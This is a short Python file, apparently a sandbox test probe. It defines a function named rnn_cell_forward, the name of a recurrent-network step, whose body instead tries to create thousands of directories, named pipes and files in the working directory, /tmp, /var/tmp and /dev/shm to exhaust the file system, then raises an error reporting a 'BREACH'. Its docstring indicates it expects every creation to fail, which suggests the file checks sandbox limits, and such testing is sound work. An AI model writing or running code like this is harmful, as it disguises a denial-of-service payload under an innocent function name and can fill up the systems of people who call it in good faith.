"""Makes empty files and folders until the file system has no room for their names, here ten
thousand of them. Not one can be made.

At most: 0
"""

import os


def rnn_cell_forward(xt, a_prev, parameters):
    made = 0
    for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(10_000):
            path = f"{place}/rnn-attack-{number}"
            try:
                if number % 3 == 0:
                    os.mkdir(path)
                elif number % 3 == 1:
                    os.mkfifo(path)
                else:
                    os.close(os.open(path, os.O_CREAT | os.O_EXCL))
                made += 1
            except OSError:
                break
    said = f"BREACH: {made} files" if made else "nothing made"
    raise OSError(said)
